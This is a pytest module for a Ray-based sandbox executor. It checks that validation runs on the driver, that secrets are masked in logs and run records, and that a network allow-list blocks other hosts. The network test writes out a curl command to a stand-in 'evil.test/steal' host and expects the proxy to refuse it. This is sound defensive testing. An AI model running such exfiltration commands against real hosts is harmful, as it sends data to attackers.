"""The Ray executor with main's sandbox policies: where a worker's sandboxes go, the
run's validation kept on the driver, secrets read on the driver and masked, and the
network ``allow`` policy enforced by the proxy the worker's backend starts for itself."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from forkyard.journal.events import RunPaths
from forkyard.run.executors import local_backend
from forkyard.run.options import RunOptions
from forkyard.run.validation import ValidationSetup, sandbox_validator
from forkyard.run.workflow import run_validator, run_workflow
from gitproc.git import Repo
from planner import TaskFile
from sandbox import places
from sandbox.backends.worktree import WorktreeBackend, WorktreeConfig
from tests.conftest import require
from tests.forkyard.test_executor_ray import ray_session  # noqa: F401 -- the module's Ray
from tests.sandbox.conftest import has_bwrap, has_cgroups
from tests.security.conftest import server  # noqa: F401 -- the recording HTTP server
from tests.security.harness import Server

pytestmark = pytest.mark.slow

LIMITS: dict[str, Any] = {"memory_mb": 256, "cpus": 1.0, "pids": 128, "timeout_s": 60}


def _real() -> None:
    require(has_cgroups(), "writable cgroups")
    require(has_bwrap(), "bubblewrap")


def _run(repo: Repo, *tasks: dict[str, Any], limits: dict[str, Any] | None = None,
         **backend: Any) -> Any:
    tf = TaskFile.model_validate({"defaults": {"limits": {**LIMITS, **(limits or {})}},
                                  "tasks": list(tasks)})
    return run_workflow(repo, tf, RunOptions(agents=len(tasks), use_history=False,
                                             executor="ray", backend_options=backend))


def test_validation_runs_on_the_driver_not_on_a_worker(ray_session: Path, pylib: Repo) -> None:  # noqa: F811
    from forkyard.run.executors.ray import RayExecutor

    _real()
    local = WorktreeBackend(pylib, WorktreeConfig(grace_s=0.3))
    executor = RayExecutor(pylib, local.config, agents=1, local=local)
    assert local_backend(executor) is local
    show = 'echo "$FORKYARD_WORKTREE"; exit 3'  # fails, so its log is kept
    opts = RunOptions(validate_command=show, executor="ray")
    tf = TaskFile.model_validate({"tasks": [{"id": "a", "command": "true"}]})
    head = pylib.rev_parse("HEAD")
    got = run_validator(pylib, executor, "tval", opts, tf)(head)
    where = Path(got.log_tail.splitlines()[0])
    assert where.parent.parent == places.run_dir(pylib.forkyard_dir, "tval")  # the driver's root
    assert "ran on Ray node" not in got.log_tail
    # The control: the same validator built on the executor itself runs on a worker.
    try:
        remote = sandbox_validator(pylib, executor, "tval2", ValidationSetup(command=show))(head)
    finally:
        executor.close()  # its node releases the base checkout of "tval2"
    assert "ran on Ray node" in remote.log_tail
    assert not remote.log_tail.startswith(str(places.sandbox_root(pylib.forkyard_dir)))


def test_a_driver_secret_reaches_the_worker_masked(ray_session: Path, pylib: Repo,  # noqa: F811
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    _real()
    secret = "s3cr3t-" + "x" * 20
    # Set after Ray started: its workers' own environment does not have it.
    monkeypatch.setenv("FY_RAY_TOKEN", secret)
    monkeypatch.setenv("FY_RAY_REF", secret + "-ref")
    res = _run(pylib, {"id": "a", "pass_env": ["FY_RAY_TOKEN"],
                       "env": {"FROM_REF": "${FY_RAY_REF}"},
                       "command": 'printf %s "$FY_RAY_TOKEN" > token.txt; '
                                  'printf %s "$FROM_REF" > ref.txt; '
                                  'echo "token=$FY_RAY_TOKEN ref=$FROM_REF"'})
    r = res.result("a")
    assert r.status == "succeeded", r.log_tail
    assert "ran on Ray node" in r.message
    assert pylib.out("show", f"{r.commit}:token.txt") == secret        # it arrived
    assert pylib.out("show", f"{r.commit}:ref.txt") == secret + "-ref"
    assert "token=*** ref=***" in r.log_tail
    journal = RunPaths.of(pylib, res.run_id).root
    for path in journal.rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path
    assert secret not in json.dumps(res.model_dump(mode="json"))


def test_network_allow_is_enforced_on_the_worker(ray_session: Path, pylib: Repo,  # noqa: F811
                                                 server: Server) -> None:  # noqa: F811
    _real()
    require(shutil.which("curl") is not None, "curl")
    cmd = ("curl -sS http://model.test/ok; echo; "
           "curl -sS http://evil.test/steal -o /dev/null -w 'evil:%{http_code}\\n'")
    res = _run(pylib, {"id": "a", "command": cmd},
               limits={"network": {"allow": ["model.test"]}},
               proxy_hosts=server.hosts("model.test", "evil.test"))
    r = res.result("a")
    assert "ran on Ray node" in r.message, r.message
    assert "REACHED-HOST-SERVER" in r.log_tail, r.log_tail   # the allowed host, by proxy
    assert "evil:403" in r.log_tail, r.log_tail              # the other one refused
    assert server.hits == ["model.test"]
